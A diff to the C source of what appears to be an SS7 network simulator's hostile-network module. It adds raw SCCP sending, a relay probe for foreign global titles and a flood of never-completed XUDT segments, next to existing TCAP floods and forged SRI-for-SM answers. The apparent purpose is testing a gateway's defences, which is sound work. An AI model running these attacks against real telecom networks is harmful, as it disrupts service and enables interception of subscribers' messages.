@@ -24,6 +24,7 @@
 #define FLOOD_BURST 200		/* Begins per loop turn: the flood must not starve the loop */
 
 static struct {
+	struct sccp_layer *layer;
 	struct sccp_user *sccp;
 	uint64_t sent, answers;
 	/* forged SRI-for-SM answers: armed until the next SRI the HLR sees */
@@ -119,6 +120,30 @@ static void flood_cb(void *data)
 		osmo_timer_schedule(&atk.flood_timer, 0, 1000);
 }
 
+/* ------------------------------------------------------ raw SCCP */
+
+/* A UDT or a first XUDT segment from `from` to `called`, straight to a point
+ * code (past our own GT translation) */
+static int send_raw_sccp(uint32_t dpc, const char *called, const char *from, bool first_segment, uint32_t ref)
+{
+	static const uint8_t tcap_begin[] = { 0x62, 0x0a, 0x48, 0x04, 0x00, 0x00, 0x00, 0x01, 0x6c, 0x02, 0xa1, 0x00 };
+	uint8_t buf[300];
+	struct sccp_msg m = { .type = first_segment ? SCCP_MSGT_XUDT : SCCP_MSGT_UDT, .hop_counter = 15,
+			      .return_on_error = true, .data = tcap_begin, .len = sizeof(tcap_begin) };
+	if (sccp_addr_set_e164(&m.called, called, SCCP_SSN_HLR) < 0 ||
+	    sccp_addr_set_e164(&m.calling, from, SCCP_SSN_MSC) < 0)
+		return -EINVAL;
+	if (first_segment) {
+		m.seg_present = true;
+		m.seg = (struct sccp_segmentation){ .first = true, .remaining = 1, .local_ref = ref };
+	}
+	int n = sccp_msg_encode(buf, sizeof(buf), &m);
+	if (n < 0)
+		return -EINVAL;
+	atk.sent++;
+	return sccp_layer_send_raw(atk.layer, dpc, buf, n);
+}
+
 /* -------------------------------------------------------------- VTY */
 
 static bool gt_ok(struct vty *vty, const char *gt)
@@ -201,6 +226,31 @@ DEFUN(attack_alert, attack_alert_cmd, "attack alert MSISDN to-sc GT from-gt GT",
 	return CMD_SUCCESS;
 }
 
+DEFUN(attack_relay, attack_relay_cmd, "attack relay-probe <0-16383> called-gt GT from-gt GT",
+      "Act as a hostile network\n"
+      "A message to a point code for a GT it does not own: does it relay traffic for anybody?\n"
+      "The point code (integer)\n" "Called\n" "A GT of another network\n" "From\n" "Calling GT\n")
+{
+	if (!gt_ok(vty, argv[1]) || !gt_ok(vty, argv[2]) || send_raw_sccp(atoi(argv[0]), argv[1], argv[2], false, 0) < 0)
+		return CMD_WARNING;
+	vty_out(vty, "sent%s", VTY_NEWLINE);
+	return CMD_SUCCESS;
+}
+
+DEFUN(attack_segments, attack_segments_cmd, "attack segment-flood <1-100000> <0-16383> called-gt GT from-gt GT",
+      "Act as a hostile network\n" "First XUDT segments whose rest never comes\n" "How many\n"
+      "The point code (integer)\n" "Called\n" "The gateway's GT\n" "From\n" "Calling GT\n")
+{
+	int n = atoi(argv[0]), sent = 0;
+	if (!gt_ok(vty, argv[2]) || !gt_ok(vty, argv[3]))
+		return CMD_WARNING;
+	for (int i = 0; i < n; i++)
+		if (send_raw_sccp(atoi(argv[1]), argv[2], argv[3], true, 0x100000 + i) == 0)
+			sent++;
+	vty_out(vty, "sent %d%s", sent, VTY_NEWLINE);
+	return CMD_SUCCESS;
+}
+
 DEFUN(show_attack, show_attack_cmd, "show attack", SHOW_STR "What the hostile network sent and got back\n")
 {
 	vty_out(vty, "sent %llu answers %llu forged-sri %u flood-left %llu%s", (unsigned long long)atk.sent,
@@ -214,12 +264,15 @@ void netsim_attack_vty_init(void)
 	install_element(ENABLE_NODE, &attack_begin_flood_cmd);
 	install_element(ENABLE_NODE, &attack_mo_cmd);
 	install_element(ENABLE_NODE, &attack_alert_cmd);
+	install_element(ENABLE_NODE, &attack_relay_cmd);
+	install_element(ENABLE_NODE, &attack_segments_cmd);
 	install_element_ve(&show_attack_cmd);
 }
 
 int netsim_attack_start(void *ctx, struct ss7_stack *stack)
 {
 	osmo_timer_setup(&atk.flood_timer, flood_cb, NULL);
+	atk.layer = stack->sccp;
 	atk.sccp = sccp_user_bind(stack->sccp, ATTACK_SSN, &attack_ops, NULL);
 	return atk.sccp ? 0 : -EBUSY;
 }
